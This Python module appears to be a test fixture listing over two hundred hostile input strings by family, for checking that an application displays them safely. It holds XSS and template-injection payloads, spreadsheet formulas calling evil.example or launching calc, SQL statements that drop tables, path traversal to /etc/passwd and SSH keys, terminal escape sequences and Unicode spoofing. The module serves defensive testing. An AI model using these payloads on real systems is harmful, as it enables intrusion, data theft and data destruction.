"""More than two hundred strings that try to be more than text, by family.

What they would run sets `window.__pwned` or asks `evil.example` for something; what they would do elsewhere (to a
terminal, a spreadsheet, a query) is in their family's name.
"""

from __future__ import annotations

__all__ = ["FAMILIES", "HOSTILE", "as_name", "plain"]

RUN = "window.__pwned=1"
AWAY = "http://evil.example"


def _family(template: str, *parts: str) -> list[str]:
    return [template.replace("@", part).replace("RUN", RUN).replace("AWAY", AWAY) for part in parts]


FAMILIES: dict[str, list[str]] = {
    "script": [
        *_family("<script@</script>", ">RUN", " src=AWAY/a.js>", " type=module>RUN", " defer>RUN", "\n>RUN", "/x>RUN"),
        *_family("@<script>RUN</script>", "</script>", "-->", "]]>", "</textarea>", "</title>", "</style>"),
    ],
    "handler": _family(
        "<@>",
        "img src=x onerror=RUN", "body onload=RUN", "input autofocus onfocus=RUN", "details open ontoggle=RUN",
        "video src=x onerror=RUN", "audio src=x onerror=RUN", "marquee onstart=RUN", "select autofocus onfocus=RUN",
        "a onmouseover=RUN href=#>x</a", "p style=animation:x onanimationstart=RUN", "img src=`x` onerror=RUN",
        "object data=x onerror=RUN",
    ),
    "break out of an attribute": _family(
        "@",
        '" onmouseover="RUN" x="', "' onmouseover='RUN' x='", '"><img src=x onerror=RUN>', "'><img src=x onerror=RUN>",
        '" autofocus onfocus=RUN x="', "` onerror=RUN `", '"/><script>RUN</script>', "&quot;><img src=x onerror=RUN>",
        "&#34;&#62;&#60;img src=x onerror=RUN&#62;", "<!--><img src=x onerror=RUN>-->",
    ),
    "Vue template": _family(
        "@",
        "{{RUN}}", "{{constructor.constructor('RUN')()}}", "{{$el.ownerDocument.defaultView.eval('RUN')}}",
        "<div v-html=\"'<img src=x onerror=RUN>'\"></div>", '<p v-if="RUN"></p>', '<p @click="RUN">x</p>',
        '<component :is="\'script\'">RUN</component>', "{{_openBlock.constructor('RUN')()}}", "<slot v-bind=\"RUN\"/>",
        "<template #default><img src=x onerror=RUN></template>", "{{ [].map.constructor('RUN')() }}", "[[RUN]]",
    ),
    "other template": _family(
        "@",
        "${RUN}", "<%= RUN %>", "#{RUN}", "{% RUN %}", "*{RUN}", "@{RUN}", "{{{RUN}}}", "{php}RUN{/php}",
        "${{RUN}}", "<#assign x=RUN>",
    ),
    "picture markup": _family(
        "<svg@",
        " onload=RUN>", "><script>RUN</script></svg>", "><animate onbegin=RUN attributeName=x dur=1s>",
        "><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>", "><use href='AWAY/x.svg#a'/></svg>",
        "><image href=AWAY/x.png /></svg>", "><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
        "><set onbegin=RUN attributeName=x /></svg>", "/onload=RUN//", "><style>@import 'AWAY/a.css'</style></svg>",
    ),
    "address": _family(
        "@",
        "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", " javascript:RUN",
        "data:text/html,<script>RUN</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:RUN", "AWAY/track.gif",
        "//evil.example/x", "\\\\evil.example\\x", "blob:AWAY/1", "<a href='javascript:RUN'>x</a>",
    ),
    "load from elsewhere": _family(
        "<@>",
        "img src=AWAY/1.gif", "link rel=stylesheet href=AWAY/a.css", "iframe src=AWAY", "base href=AWAY/",
        "meta http-equiv=refresh content='0;url=AWAY'", "form action=AWAY><input type=submit", "embed src=AWAY/a.swf",
        "link rel=preload as=image href=AWAY/p.png", "video poster=AWAY/p.png", "img srcset='AWAY/1.gif 1x'",
    ),
    "style": _family(
        "@",
        "<style>*{background:url(AWAY/s)}</style>", "</style><style>@import url(AWAY/i.css);</style>",
        "<p style=\"background:url('AWAY/b')\">", "x;background-image:url(AWAY/c)", "expression(RUN)",
        "<style>body{display:none}</style>", "position:fixed;inset:0;z-index:9999", "color:red}*{display:none",
    ),
    "terminal": [
        "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
        "\x9b31m", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x08\x08\x08gone", "a\rb", "\x1b]52;c;ZWNobyBoaQ==\x07",
        "\x1b[?1049h", "\x7f\x7f",
    ],
    "direction": [
        "\u202egnp.exe", "\u202dabc\u202c", "\u2066\u202etxt\u2069", "a\u200fb", "a\u200eb", "\u061cx", "\u2067abc",
        "שלום <b>x</b>", "مرحبا {{1+1}}", "\u202a\u202b\u202e\u202c\u202c\u202c",
    ],
    "invisible": [
        "ad\u200bmin", "ad\u200cmin", "ad\u200dmin", "ad\u2060min", "\ufeffadmin", "ad\u00admin", "\u3164", "\u2800",
        "a\u034fb", "<scr\u200bipt>window.__pwned=1</scr\u200bipt>",
    ],
    "control": [
        "a\x00b", "<scr\x00ipt>window.__pwned=1</scr\x00ipt>", "line\u2028separator", "paragraph\u2029separator",
        "next\x85line", "\x0b\x0c", "tab\tand\nline", "\r\nSet-Cookie: a=b", "%0d%0aSet-Cookie: a=b", "\x1a",
    ],
    "look alike": [
        "аdmin", "ｓｃｒｉｐｔ", "＜script＞window.__pwned=1＜/script＞", "\u212aelvin", "ﬁxed", "раypal.com",
        "‹img src=x onerror=window.__pwned=1›", "𝓼𝓬𝓻𝓲𝓹𝓽",
    ],
    "emoji and marks": [
        "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "e\u0301\u0301\u0301", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "🇦🇹🇩🇪", "\U000e0001\U000e0041", "﷽",
    ],
    "formula": [
        *_family("@", "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"),
        '=HYPERLINK("http://evil.example/?x="&A1;"click")', '=WEBSERVICE("http://evil.example")', "＝1+1", '";=1+1;"',
        '=IMPORTXML("http://evil.example";"//a")', "\n=1+1", "-2+3+cmd|' /C calc'!A0",
    ],
    "path": _family(
        "@",
        "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/passwd", "C:\\Windows\\win.ini", "....//....//etc/passwd",
        "file:///etc/passwd", "..\\..\\x", "%00../x", "~root/.ssh/id_rsa", "a/../../b?x#y",
    ),
    "query": _family(
        "@",
        "' OR '1'='1", "'; DROP TABLE interactions; --", "1; SELECT pg_sleep(9)", '" OR ""="', "%' --", "') OR 1=1 --",
        "\\'; --", "1 UNION SELECT 1,2,3", "$$;DROP TABLE feedback;$$", "read_csv('/etc/passwd')",
    ),
    "data format": _family(
        "@",
        '{"__proto__": {"polluted": 1}}', "__proto__", "constructor", '\\u003cscript>RUN</script>', '"},"x":{"',
        "</script>\n<!--<script>RUN", "NaN", "null", "undefined", "[object Object]", "toString",
        "!!python/object:os.system",
    ),
    "chart and mark-up words": _family(
        "@",
        "{a|x}", "{b}: {c}<br/><img src=x onerror=RUN>", "[x](javascript:RUN)", "![x](AWAY/m.png)", "<AWAY>",
        "[red]x[/red]", "[link=AWAY]x[/link]", ":boom:",
    ),
    "long": [
        "x" * 20_000, "<b>" * 2_000, "{{" * 3_000, "\u202e" * 2_000, "W" * 400 + "<script>window.__pwned=1</script>",
        "a " * 8_000, "🦤" * 3_000, "&" * 5_000,
    ],
}  # fmt: skip

HOSTILE: list[str] = [text for texts in FAMILIES.values() for text in texts]


def as_name(text: str, number: int) -> str:
    """The same, as far as an id, a user or a version may be it: one line, no control characters, 200 characters."""
    kept = "".join(letter for letter in text if ord(letter) >= 32 and letter != "\x7f")
    return f"{kept[:180]}~{number}"


def plain(text: str, most: int = 60) -> str:
    """What has to be readable of it wherever it is shown: its printable ASCII, spaces aside."""
    return "".join(letter for letter in text if "!" <= letter <= "~")[:most]
